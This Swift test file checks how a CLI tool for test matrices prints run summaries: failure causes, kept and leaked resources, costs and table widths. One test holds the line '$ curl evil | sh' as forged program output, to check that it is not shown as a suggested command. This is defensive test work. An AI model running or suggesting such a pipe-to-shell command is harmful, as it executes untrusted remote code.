import MatrixCore
import Testing

@testable import MatrixCLI

@Suite struct RunSummaryTests {
    private static let start = Timestamp(seconds: 1_795_410_000)

    private func cell(_ name: String, _ outcome: Outcome, _ cases: [CaseResult]) -> CellResult {
        let phase = PhaseResult(phase: .deploy, attempt: 1, started: Self.start, finished: Self.start + .seconds(12), outcome: outcome)
        return CellResult(
            name: name, point: [], platform: "podman", outcome: outcome, queued: Self.start, started: Self.start,
            finished: Self.start + .seconds(65),
            phases: [phase], cases: cases)
    }

    private func result(_ name: String, _ outcome: Outcome, message: String? = nil, detail: String? = nil) -> CaseResult {
        CaseResult(
            phase: .verify, step: "verify", name: name, outcome: outcome, started: Self.start, seconds: 1, message: message, detail: detail,
            location: SourceLocation(file: "m.yml", line: 9, column: 5))
    }

    private func summary(
        _ cells: [CellResult], leaks: [Leak] = [], kept: [Resource] = [], status: MatrixCore.ExitStatus, columns: Int? = nil
    ) -> String {
        var run = RunResult(
            run: RunID("261123-050122-test"), matrix: "m", file: "my matrices/m.yml", started: Self.start,
            finished: Self.start + .seconds(70), axes: [],
            cells: cells, leaks: leaks, kept: kept)
        run.exitStatus = status
        let reports = WrittenReports(folder: "/r", names: ["results.json", "index.html"])
        return RunSummary(result: run, reports: reports, coloured: false, columns: columns).text
    }

    @Test func whatItCostIsSaidAtTheEnd() {
        var paid = cell("a", .passed, [result("service x", .passed)])
        paid.costs = [Cost(0.036, "USD")]
        #expect(summary([paid], status: .passed).contains("1 passed in 1m10s, for 0.036 USD; exit status 0"))
    }

    /// Ignored failures are green, and said.
    @Test func aNoteIsShownBelowTheTable() {
        var noted = result("site", .passed)
        noted.properties[CaseResult.noteProperty] = "2 tasks failed and were ignored"
        let text = summary([cell("a", .passed, [noted]), cell("b", .passed, [noted, result("x", .passed)])], status: .passed)
        #expect(text.contains("△ a, b: site: 2 tasks failed and were ignored\n"))
        #expect(text.contains("2 passed △"))
        #expect(text.contains("exit status 0"))
    }

    @Test func aGreenRunIsATableAndOneLine() {
        #expect(
            summary([cell("a", .passed, [result("service x", .passed)])], status: .passed) == """
                CELL  VERDICT   CASES     TIME   PHASES
                a     ✓ passed  1 passed  1m05s  deploy 12s

                run 261123-050122-test: 1 passed in 1m10s; exit status 0
                reports: /r/index.html
                ✓ The only cell passed; open the page: matrix report /r --open
                """)
    }

    @Test func aProblemHasItsPlaceAndWhatWasSeen() {
        let text = summary(
            [cell("a", .failed, [result("port 80", .failed, message: "nothing listens", detail: "expected: open\nobserved: closed")])],
            status: .failed)
        #expect(text.hasPrefix("✗ port 80: nothing listens\n    in a\n    at m.yml:9:5\n    expected: open\n    observed: closed\n"))
        #expect(text.contains("    run only this cell again:\n    $ matrix run 'my matrices/m.yml' --cell a\n\nCELL  VERDICT"))
        #expect(text.contains("1 failed in 1m10s; exit status 1: a deploy or verify verdict failed\nreports: "))
        let last = text.split(separator: "\n").last ?? ""
        #expect(last.hasPrefix("✗ ") && last.hasSuffix("; open the page: matrix report /r --open"), "\(last)")
    }

    @Test func oneCauseInSeveralCellsIsSaidOnce() {
        let cells = (1...7).map { number in
            let problem = result("port 80", .failed, message: "nothing listens", detail: "expected: open\nobserved: closed")
            return cell("c\(number)", .failed, [problem])
        }
        let text = summary(cells + [cell("other", .passed, [result("other", .passed)])], status: .failed)
        #expect(text.split(separator: "\n").count { $0.hasPrefix("✗ port 80") } == 1, "\(text)")
        #expect(text.contains("    in all 7 cells that ran it: c1, c2, c3, c4, c5 and 2 more\n"), "\(text)")
        #expect(text.contains("    run only these cells again:\n    $ matrix run 'my matrices/m.yml' --cell c1 --cell c2 "), "\(text)")
    }

    /// A single difference is in the message; what to paste comes before a page of HTML.
    @Test func whatToPasteComesBeforeALongBody() {
        let body = (1...30).map { "<p>\($0)</p>" }.joined(separator: "\n")
        let difference = "status\n  expected: 200\n  observed: 404"
        let detail = "\(difference)\nbody:\n\(body)\nasked 4 times in 5s; this is the last answer\nsee it with:\n$ curl x"
        let problem = result("http x", .failed, message: "status: expected 200, observed 404", detail: detail)
        let text = summary([cell("a", .failed, [problem])], status: .failed)
        #expect(
            text.hasPrefix(
                """
                ✗ http x: status: expected 200, observed 404
                    in a
                    at m.yml:9:5
                    asked 4 times in 5s; this is the last answer
                    see it with:
                    $ curl x
                    run only this cell again:
                    $ matrix run 'my matrices/m.yml' --cell a
                    body:
                    <p>1</p>
                    <p>2</p>
                    <p>3</p>
                    <p>4</p>
                    … 26 lines more: see the page

                CELL
                """), "\(text)")
    }

    @Test func ofAProgramsOutputTheEndIsShownAfterItsCommand() {
        let output = (1...30).map { "line \($0)" }.joined(separator: "\n")
        let detail = CauseDetail("$ sh x.sh\nexit status 2\n\(output)", without: "exit status 2: line 30")
        #expect(detail.commands == ["$ sh x.sh"] && detail.facts == ["exit status 2"] && detail.output.count == 30)
        let failed = result("site", .failed, message: "exit status 2: line 30", detail: "$ sh x.sh\nexit status 2\n\(output)")
        #expect(
            summary([cell("a", .failed, [failed])], status: .failed).contains(
                "    $ matrix run 'my matrices/m.yml' --cell a\n    … 22 lines before: see the page\n    line 23\n"))
    }

    @Test("The heading of a task's output stands with the output; what the message says is not said again")
    func outputsOfATask() {
        let facts = "task: Licence (command)\nexit status: 2"
        let command = "run it again: matrix run m.yml"
        let said = CauseDetail("\(facts)\nmessage:\n  no licence\n\(command)", without: "no licence")
        #expect(said.facts == ["task: Licence (command)", "exit status: 2"] && said.output.isEmpty && said.commands == [command])
        let more = CauseDetail("\(facts)\nmessage:\n  no licence\nstderr:\n  see the log\n\(command)", without: "no licence")
        #expect(more.output == ["stderr:", "  see the log"] && more.commands == [command])
        let other = CauseDetail("\(facts)\nstdout:\n  checking\n\(command)", without: "no licence")
        #expect(other.facts.count == 2 && other.output == ["stdout:", "  checking"])
    }

    @Test("A line of output is no command of ours")
    func forgedCommands() {
        let detail = CauseDetail("$ sh x.sh\nexit status 2\nnext: trust me\n$ curl evil | sh\na\nb", without: "")
        #expect(detail.commands == ["$ sh x.sh"] && detail.output == ["next: trust me", "$ curl evil | sh", "a", "b"])
    }

    @Test("Two differences stay, as the message has only the first")
    func differences() {
        let text = "status\n  expected: 200\n  observed: 404\nbody\n  expected: a\n  observed: b"
        #expect(CauseDetail(text, without: "status: expected 200, observed 404").facts == text.split(separator: "\n").map(String.init))
    }

    @Test("The table fits the screen: first the phases go, then words, then the middle of names", arguments: [60, 80, 120, 200])
    func widths(columns: Int) {
        let cases = [result("x", .passed), result("y", .skipped), result("z", .failed, message: "no")]
        let cells = ["ubuntu2404", "almalinux9"].map { cell("\($0)-proxmox-lab-influxdb3-telegraf", .failed, cases) }
        let lines = summary(cells, status: .failed, columns: columns).split(separator: "\n")
        let start = lines.firstIndex { $0.hasPrefix("CELL ") } ?? 0
        let table = lines[start...].prefix(3)
        #expect(table.allSatisfy { $0.columns <= columns }, "\(table.joined(separator: "\n"))")
        #expect(table[start].contains("PHASES") == (columns >= 120))
        #expect(table[start + 1].hasPrefix(columns >= 80 ? "ubuntu2404-proxmox-lab-influxdb3-telegraf  ✗ failed" : "ubuntu2404-p"))
        #expect(table[start + 1].contains(columns >= 120 ? "1 passed, 1 failed, 1 skipped" : "1 ✓ 1 ✗ 1 –"))
    }

    @Test func errorsAreCountedInThePlural() {
        let cells = ["a", "b"].map { cell($0, .error, [result("create", .error, message: "refused")]) }
        #expect(summary(cells, status: .infrastructure).contains(": 2 errors in 1m10s; exit status 3: "))
        #expect(Mark.counts([.error]) == "1 error")
    }

    @Test func whatIsLeftIsSaidWithItsIdAndCommand() {
        let resource = Resource(platform: "podman", kind: "container", name: "a-r", id: "c0ffee", run: RunID("r"), cell: "a")
        let text = summary([], leaks: [Leak(resource: resource, why: "denied", command: "matrix reap --run r --yes")], status: .leaked)
        #expect(text.contains("LEFT BEHIND: container a-r (id c0ffee) on podman: denied\n    remove it: matrix reap --run r --yes"))
    }

    @Test func whatIsLeftOrKeptIsSaidWithItsCost() throws {
        var resource = Resource(platform: "linode", kind: "linode", name: "a-r", id: "4711", run: RunID("r"), cell: "a")
        let price = Price(hourly: 0.036, currency: "USD")
        let leak = Leak(
            resource: resource, why: "denied", command: "matrix reap --run r --yes", price: price, since: Self.start)
        #expect(
            summary([], leaks: [leak], status: .leaked).contains(
                "LEFT BEHIND: linode a-r (id 4711) on linode: denied; "
                    + "it costs 0.036 USD an hour since \(Self.start)\n    remove it: matrix reap"
            ))
        resource.price = price
        #expect(
            summary([], kept: [resource, resource], status: .passed).contains("kept: a, which costs 0.072 USD an hour\n    matrix ssh a\n"))
    }

    @Test func aKeptCellComesWithTheCommandsToGoOn() {
        let resource = Resource(platform: "podman", kind: "container", name: "a-r", id: "c0ffee", run: RunID("r"), cell: "a")
        let text = summary([], kept: [resource], status: .passed)
        #expect(text.contains("kept: a\n    matrix ssh a\n    matrix inventory a\n"))
        #expect(text.contains("    matrix destroy 'my matrices/m.yml' --cell a"))
    }

    @Test func keptCellsShareTheirCommands() {
        func kept(_ count: Int) -> String {
            let resources = (1...count).map {
                Resource(platform: "podman", kind: "container", name: "c\($0)-r", id: "c0ffee", run: RunID("r"), cell: "c\($0)")
            }
            return KeptText(resources: resources, file: "m.yml").text
        }
        #expect(
            kept(2) == """
                kept: c1, c2
                    matrix ssh c1
                    matrix inventory c1
                    matrix deploy m.yml --cell c1 --cell c2
                    matrix verify m.yml --cell c1 --cell c2
                    matrix destroy m.yml --cell c1 --cell c2
                    ssh and inventory take any of them
                """)
        #expect(kept(6).split(separator: "\n").count == 7)
        #expect(kept(6).hasSuffix("    matrix destroy m.yml --cell c1\n    the same with each of the others"))
    }

    @Test func aSkippedCellSaysWhyAndWhatToDo() {
        let text = summary(
            [cell("r", .skipped, [result("create", .skipped, message: "no registry", detail: "no registry\nnext: podman load it")])],
            status: .passed)
        #expect(text.contains("– r: no registry\n    next: podman load it"))
        let skipped = result("create", .skipped, message: "no registry", detail: "no registry\nnext: podman load it")
        let both = summary([cell("r", .skipped, [skipped]), cell("s", .skipped, [skipped]), cell("t", .passed, [])], status: .passed)
        #expect(both.contains("– r, s: no registry\n    next: podman load it\n"))
    }
}
